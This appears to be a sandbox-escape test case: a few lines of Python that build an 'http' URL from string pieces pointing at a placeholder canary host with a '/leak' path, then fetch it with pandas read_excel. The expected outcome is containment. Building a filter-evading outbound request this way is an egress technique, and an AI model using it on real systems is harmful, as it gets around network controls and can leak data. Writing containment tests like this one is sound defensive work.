# attack: pd.read_excel on a URL assembled at run time
# expect: contained:python
# unguarded: python
import pandas as pd
scheme = "ht" + "tp"
url = scheme + "://" + "CANARY_HOST" + ":" + str(CANARY_PORT) + "/leak"
pd.read_excel(url)
